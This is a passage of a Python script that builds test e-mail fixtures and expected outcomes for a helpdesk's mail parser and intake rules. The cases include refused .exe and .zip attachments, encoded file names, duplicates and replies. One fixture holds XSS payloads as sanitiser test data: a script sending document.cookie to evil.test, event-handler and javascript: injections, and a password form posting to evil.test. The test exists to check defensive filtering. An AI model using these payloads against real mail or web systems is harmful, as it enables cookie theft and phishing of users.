{b64(exe)}
--00000000000055aa66bb77cc88dd
Content-Type: application/pdf; name="manual.pdf"
Content-Disposition: attachment; filename="manual.pdf"
Content-Transfer-Encoding: base64

{b64(pdf('manual'))}
--00000000000055aa66bb77cc88dd--
"""
add("28-exe-attachment-refused.eml", MSG28, {
    "from": "felipe@customer.test", "from_name": "Felipe Rocha", "subject": "Instalador do leitor de boletos",
    "message_id": "CAF3lip3R0cha0001xYz@mail.gmail.com", "attachments": ["setup.exe", "manual.pdf"],
    "text_contains": ["instalador"]},
    {"result": "new_ticket_with_refused_attachments", "rule": "new_ticket", "locale": "pt-BR",
     "attachments_stored": ["manual.pdf"], "refused": [{"file": "setup.exe", "error": "FileTypeNotAllowed"}]})

# ---------------------------------------------------------------- 29 .zip attachment
import io, zipfile
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z:
    z.writestr(zipfile.ZipInfo("app.log", date_time=(2026, 11, 26, 10, 0, 0)), "2026-11-26 10:00:00 ERROR timeout\n" * 5)
MSG29 = u(f"""From: Sofia Martins <sofia@customer.test>
To: support@helpdesk.test
Subject: Logs do servidor
Date: Thu, 26 Nov 2026 19:00:00 -0300
Message-ID: <b5c6d7e8-f9a0-4b1c-8d2e-3f4a5b6c7d8e@customer.test>
User-Agent: Mozilla Thunderbird
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="------------zip0123456789abcdefXYZ"

This is a multi-part message in MIME format.
--------------zip0123456789abcdefXYZ
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Conforme pedido, seguem os logs compactados do servidor de aplicação.

Sofia

--------------zip0123456789abcdefXYZ
Content-Type: application/zip; name="logs.zip"
Content-Disposition: attachment; filename="logs.zip"
Content-Transfer-Encoding: base64

{b64(zb.getvalue())}

--------------zip0123456789abcdefXYZ--
""")
add("29-zip-attachment-refused.eml", MSG29, {
    "from": "sofia@customer.test", "from_name": "Sofia Martins", "subject": "Logs do servidor",
    "message_id": "b5c6d7e8-f9a0-4b1c-8d2e-3f4a5b6c7d8e@customer.test", "language": "pt-BR", "attachments": ["logs.zip"],
    "text_contains": ["logs compactados"]},
    {"result": "new_ticket_with_refused_attachments", "rule": "new_ticket", "locale": "pt-BR",
     "attachments_stored": [], "refused": [{"file": "logs.zip", "error": "FileTypeNotAllowed"}]})

# ---------------------------------------------------------------- 30 six attachments (too many)
parts = ""
for i in range(1, 7):
    parts += f"""--Apple-Mail=_6F1E2D3C-4B5A-6978-8A9B-0C1D2E3F4A5B
Content-Disposition: attachment;
\tfilename=foto{i}.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="foto{i}.png"
Content-Transfer-Encoding: base64

{b64(png(i, i, (i * 30, 100, 150)))}

"""
MSG30 = f"""From: Marcos Pereira <marcos@customer.test>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_6F1E2D3C-4B5A-6978-8A9B-0C1D2E3F4A5B"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: Fotos do equipamento com defeito
Message-Id: <A1B2C3D4-E5F6-4789-9ABC-DEF012345678@customer.test>
Date: Thu, 26 Nov 2026 14:14:14 -0300
To: support@helpdesk.test

--Apple-Mail=_6F1E2D3C-4B5A-6978-8A9B-0C1D2E3F4A5B
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Seguem 6 fotos do equipamento, de todos os lados.

{parts}--Apple-Mail=_6F1E2D3C-4B5A-6978-8A9B-0C1D2E3F4A5B--
"""
add("30-six-attachments-too-many.eml", MSG30, {
    "from": "marcos@customer.test", "from_name": "Marcos Pereira", "subject": "Fotos do equipamento com defeito",
    "message_id": "A1B2C3D4-E5F6-4789-9ABC-DEF012345678@customer.test",
    "attachments": [f"foto{i}.png" for i in range(1, 7)], "text_contains": ["6 fotos"]},
    {"result": "new_ticket_with_refused_attachments", "rule": "new_ticket", "locale": "pt-BR",
     "attachments_stored": [f"foto{i}.png" for i in range(1, 6)], "refused": [{"file": "foto6.png", "error": "TooManyFiles"}]})

# ---------------------------------------------------------------- 31 HTML only with script etc.
H31 = ("<html><head><title>x</title><script>document.location='https://evil.test/?c='+document.cookie</script>"
       "<style>p{color:red}</style></head><body onload=\"steal()\">"
       "<p>Olá, o <b>formulário</b> de cadastro dá erro 500 quando envio o CPF.</p>"
       "<p><a href=\"javascript:alert(1)\">clique</a> | <a href=\"https://portal.customer.test/ajuda\" target=\"_blank\">ajuda</a></p>"
       "<iframe src=\"https://evil.test/frame\"></iframe><img src=x onerror=\"alert(2)\">"
       "<form action=\"https://evil.test/login\"><input name=\"senha\" type=\"password\"></form>"
       "<p style=\"background:url(javascript:alert(3))\">Elena &amp; equipe</p>"
       "<SCRIPT>alert('caps')</SCRIPT><object data=\"x.swf\"></object><svg><script>alert(4)</script></svg>"
       "</body></html>\n")
MSG31 = u(f"""From: Elena Costa <elena@customer.test>
To: support@helpdesk.test
Subject: Erro 500 no cadastro
Date: Thu, 26 Nov 2026 20:20:20 -0300
Message-ID: <html-only-31-5a4b3c2d@customer.test>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(H31)}""")
add("31-html-only-script.eml", MSG31, {
    "from": "elena@customer.test", "from_name": "Elena Costa", "subject": "Erro 500 no cadastro",
    "message_id": "html-only-31-5a4b3c2d@customer.test", "has_html": True,
    "text_contains": ["formulário de cadastro dá erro 500", "Elena & equipe"],
    "text_excludes": ["document.cookie", "alert(", "color:red"],
    "html_excludes": ["<script", "<SCRIPT", "onload", "onerror", "javascript:", "<iframe", "<style", "<form", "<input",
                      "<object", "<svg", "document.cookie", "alert("]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 32 encoded file names (RFC 2231 + RFC 2047)
n2047 = "=?UTF-8?B?" + base64.b64encode("orçamento 2026.pdf".encode()).decode() + "?="
MSG32 = f"""From: Beatriz Nogueira <beatriz@customer.test>
To: support@helpdesk.test
Subject: Documentos para o contrato
Date: Thu, 26 Nov 2026 11:30:00 -0300
Message-ID: <7e8f9a0b-1c2d-4e3f-8a9b-0c1d2e3f4a5b@customer.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="enc-names-boundary"

--enc-names-boundary
Content-Type: text/plain; charset=UTF-8

Seguem o relatorio mensal, o orcamento e o comprovante.

--enc-names-boundary
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''relat%C3%B3rio%20mensal.pdf
Content-Transfer-Encoding: base64

{b64(pdf('relatorio'))}
--enc-names-boundary
Content-Type: application/pdf; name="{n2047}"
Content-Disposition: attachment; filename="{n2047}"
Content-Transfer-Encoding: base64

{b64(pdf('orcamento'))}
--enc-names-boundary
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=ISO-8859-1''comprovante%20de%20dep%F3sito%20;
 filename*1*=banc%E1rio.pdf
Content-Transfer-Encoding: base64

{b64(pdf('comprovante'))}
--enc-names-boundary--
"""
add("32-encoded-file-names.eml", MSG32, {
    "from": "beatriz@customer.test", "from_name": "Beatriz Nogueira", "subject": "Documentos para o contrato",
    "message_id": "7e8f9a0b-1c2d-4e3f-8a9b-0c1d2e3f4a5b@customer.test",
    "attachments": ["relatório mensal.pdf", "orçamento 2026.pdf", "comprovante de depósito bancário.pdf"],
    "text_contains": ["relatorio mensal"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR",
     "attachments_stored": ["relatório mensal.pdf", "orçamento 2026.pdf", "comprovante de depósito bancário.pdf"]})

# ---------------------------------------------------------------- 33 same message delivered twice (copy of 01 with another Received)
MSG33 = u("Received: from mx2.helpdesk.test (mx2.helpdesk.test [192.0.2.20])\n\tby mail.helpdesk.test (Postfix) with ESMTPS id 9F8E7D6C5B\n"
          "\tfor <support@helpdesk.test>; Thu, 26 Nov 2026 15:01:40 +0000 (UTC)\n") + MSG01.lstrip("\n")
add("33-same-message-twice.eml", MSG33, {
    "from": "ana@customer.test", "from_name": "Ana Souza", "subject": "Não consigo acessar minha conta",
    "message_id": "CAKx7bNw1qF2Vr0m+9z8Jq3t9pLxR0s3d4G7c@mail.gmail.com", "has_html": True,
    "text_contains": ["senha inválida"]},
    {"result": "duplicate_delivery", "rule": "duplicate_delivery", "replies_to": "01-gmail-new-pt.eml",
     "note": "01 again through a second MX: stored once, the answer repeats 01's outcome."})

# ---------------------------------------------------------------- 34 second contact while ana has an active case -> duplicate
T34 = "Outra coisa: o boleto de dezembro ainda não chegou no meu e-mail.\n\nAna\n"
MSG34 = u(f"""MIME-Version: 1.0
From: Ana Souza <ana@customer.test>
Date: Fri, 27 Nov 2026 10:10:10 -0300
Message-ID: <CAKx7bNz0Pp9Oo8Ii7Uu6Yy5Tt4Rr3Ee2Ww1Qq@mail.gmail.com>
Subject: Boleto de dezembro
To: support@helpdesk.test
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(T34)}""")
add("34-second-contact-duplicate.eml", MSG34, {
    "from": "ana@customer.test", "from_name": "Ana Souza", "subject": "Boleto de dezembro",
    "message_id": "CAKx7bNz0Pp9Oo8Ii7Uu6Yy5Tt4Rr3Ee2Ww1Qq@mail.gmail.com", "text_contains": ["boleto de dezembro"]},
    {"result": "duplicate", "rule": "duplicate", "replies_to": "01-gmail-new-pt.eml",
     "note": "a new contact (no references) while ana's ticket from 01 is active: the duplicate rule (docs/duplicates.md) joins it."})

# ---------------------------------------------------------------- 35 reply to a closed ticket -> follow-up
T35 = ("A impressora voltou a travar hoje, mesmo problema.\n\nEnviado do meu iPhone\n\n"
       "> Em 26 de nov. de 2026, à(s) 14:00, Suporte Helpdesk <support@helpdesk.test> escreveu:\n>\n> Seu chamado #6 foi resolvido.\n")
MSG35 = u(f"""Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: 8bit
From: Maria Oliveira <maria@customer.test>
Mime-Version: 1.0 (1.0)
Date: Mon, 30 Nov 2026 08:15:00 -0300
Subject: Re: [#6] Impressora parada
Message-Id: <9D8C7B6A-5F4E-4D3C-2B1A-0F9E8D7C6B5A@customer.test>
References: <3B7E1D92-5C4A-4F0B-8E2D-7A6C9B1F0E3D@customer.test> <20261126170000.deadbeef@helpdesk.test>
In-Reply-To: <20261126170000.deadbeef@helpdesk.test>
To: Suporte Helpdesk <support@helpdesk.test>
X-Mailer: iPhone Mail (23B85)

{T35}""")
add("35-reply-to-closed-follow-up.eml", MSG35, {
    "from": "maria@customer.test", "from_name": "Maria Oliveira", "subject": "Re: [#6] Impressora parada",
    "message_id": "9D8C7B6A-5F4E-4D3C-2B1A-0F9E8D7C6B5A@customer.test", "in_reply_to": "20261126170000.deadbeef@helpdesk.test",
    "references": ["3B7E1D92-5C4A-4F0B-8E2D-7A6C9B1F0E3D@customer.test", "20261126170000.deadbeef@helpdesk.test"],
    "text_contains": ["voltou a travar"]},
    {"result": "follow_up", "rule": "follow_up", "replies_to": "07-iphone-new-pt.eml",
     "setup": {"close_ticket_of": "07-iphone-new-pt.eml"},
     "note": "before sending, the replay closes the ticket 07 created (an agent moves it to Closed)."})

# ---------------------------------------------------------------- 36 Gmail reply es "El ... escribió:" to 08
T36 = ("Ya me llegó el código, gracias.\n\n"
       "El jue, 26 nov 2026 a las 17:30, Soporte Helpdesk (<support@helpdesk.test>)\nescribió:\n\n> Hola Lucía, ¿podría confirmar su número?\n>\n")
MSG36 = u(f"""MIME-Version: 1.0
From: =?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lucia@customer.test>
Date: Thu, 26 Nov 2026 17:45:00 +0100
References: <CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com>
In-Reply-To: <CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com>
Message-ID: <CAH8rT2f0AaBbCcDdEeFfGgHhIiJjKkLlMm@mail.gmail.com>
Subject: =?UTF-8?Q?Re=3A_No_llega_el_c=C3=B3digo_de_verificaci=C3=B3n?=
To: support@helpdesk.test
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(T36)}""")
add("36-gmail-reply-es-escribio.eml", MSG36, {
    "from": "lucia@customer.test", "from_name": "Lucía Fernández", "subject": "Re: No llega el código de verificación",
    "message_id": "CAH8rT2f0AaBbCcDdEeFfGgHhIiJjKkLlMm@mail.gmail.com", "in_reply_to": "CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com",
    "references": ["CAH8rT2e7KqP0w9VbN3xY6mL1cZs4Fd5Gh8Jk@mail.gmail.com"], "text_contains": ["Ya me llegó el código", "escribió:"]},
    {"result": "reply_threaded", "rule": "in_reply_to", "replies_to": "08-android-gmail-new-es.eml",
     "new_text": "Ya me llegó el código, gracias."})

# ---------------------------------------------------------------- 37 new with Cc -> collaborators
MSG37 = f"""From: Ricardo Gomes <ricardo@customer.test>
To: Suporte <support@helpdesk.test>
Cc: Sofia Martins <sofia@customer.test>, "Gomes, Helena" <helena@customer.test>
Subject: VPN cai a cada 10 minutos
Date: Thu, 26 Nov 2026 09:00:00 -0300
Message-ID: <1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f@customer.test>
User-Agent: Mozilla Thunderbird
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Bom dia, a VPN do escritorio cai a cada 10 minutos desde segunda. Coloquei 
a Sofia e a Helena em copia porque elas tambem sao afetadas.

Ricardo
"""
add("37-new-with-cc.eml", MSG37, {
    "from": "ricardo@customer.test", "from_name": "Ricardo Gomes", "subject": "VPN cai a cada 10 minutos",
    "message_id": "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f@customer.test", "language": "pt-BR",
    "cc": ["sofia@customer.test", "helena@customer.test"], "text_contains": ["VPN do escritorio"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR", "collaborators": ["sofia@customer.test", "helena@customer.test"]})

# ---------------------------------------------------------------- 38 monitoring alert auto-generated unknown
MSG38 = """From: Zabbix <alerts@customer.test>
To: support@helpdesk.test
Subject: PROBLEM: Disk space is low on srv-db01 (/var 92%)
Date: Fri, 27 Nov 2026 02:14:00 -0300
Message-ID: <zabbix.1795756440.4711@monitor.customer.test>
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Problem started at 02:13:55 on 2026.11.27
Problem name: Disk space is low on srv-db01 (/var 92%)
Host: srv-db01
Severity: Warning
"""
add("38-monitoring-alert-unknown.eml", MSG38, {
    "from": "alerts@customer.test", "from_name": "Zabbix", "subject": "PROBLEM: Disk space is low on srv-db01 (/var 92%)",
    "message_id": "zabbix.1795756440.4711@monitor.customer.test", "auto_submitted": "auto-generated",
    "text_contains": ["Severity: Warning"]},
    {"result": "suspended", "rule": "suspended"})

# ---------------------------------------------------------------- 39 truncated multipart (no closing boundary), Yahoo
MSG39 = u(f"""From: Nina Barros <nina@customer.test>
To: support@helpdesk.test
Subject: Segunda via da fatura
Date: Thu, 26 Nov 2026 21:00:00 +0000
Message-ID: <1795726800123.987654.yahoo@customer.test>
X-Mailer: WebService/1.1.22890 YMailNorrin
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="----=_Part_98765_4321.1795726800000"

------=_Part_98765_4321.1795726800000
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Preciso da segunda via da fatura de outubro, por favor.

------=_Part_98765_4321.1795726800000
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

<html><body><div class="ydp">Preciso da segunda via da fatura de outubro, por favor.</div>
""")
add("39-truncated-multipart.eml", MSG39, {
    "from": "nina@customer.test", "from_name": "Nina Barros", "subject": "Segunda via da fatura",
    "message_id": "1795726800123.987654.yahoo@customer.test", "has_html": True,
    "text_contains": ["segunda via da fatura de outubro"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR", "note": "the closing boundary is missing: what arrived still parses."})

# ---------------------------------------------------------------- 40 reply with Reply-To different + Accept-Language en, Android Outlook
T40 = "Hi team, our office moved; please send the replacement router to the new address below.\n\nRua Nova, 100 - Sala 5\n\nGet Outlook for Android\n"
MSG40 = f"""From: Oliver Grant <oliver@customer.test>
Reply-To: Oliver Grant (work) <o.grant@customer.test>
To: support@helpdesk.test
Subject: Replacement router - new address
Date: Thu, 26 Nov 2026 12:12:12 +0000
Message-ID: <PAXPR04MB9999AAAABBBBCCCCDDDD0000EEEE@PAXPR04MB9999.eurprd04.prod.outlook.com>
Accept-Language: en-GB, en-US
X-MS-Has-Attach:
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{T40}"""
add("40-outlook-android-reply-to-en.eml", MSG40, {
    "from": "oliver@customer.test", "from_name": "Oliver Grant", "reply_to": "o.grant@customer.test",
    "subject": "Replacement router - new address",
    "message_id": "PAXPR04MB9999AAAABBBBCCCCDDDD0000EEEE@PAXPR04MB9999.eurprd04.prod.outlook.com", "language": "en-GB",
    "text_contains": ["replacement router", "Get Outlook for Android"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "en",
     "note": "no Content-Language: the first Accept-Language counts. Requester: the From address."})

doc = {
    "about": "Fixtures for inbound e-mail (issue 7). `parse`: the facts GMimeParser must read (adapters/mail/mime_parse_test.cpp, "
             "CorpusTest). `outcome`: where the server's intake must put each message when the files are sent IN ORDER to a "
             "fresh server (tests/integration mail corpus replay). See tests/mail/corpus/README.md.",
    "files": files,
}
with open(os.path.join(OUT, "expected.json"), "w", encoding="utf-8") as f:
    json.dump(doc, f, ensure_ascii=False, indent=1)
    f.write("\n")
print(len(files))
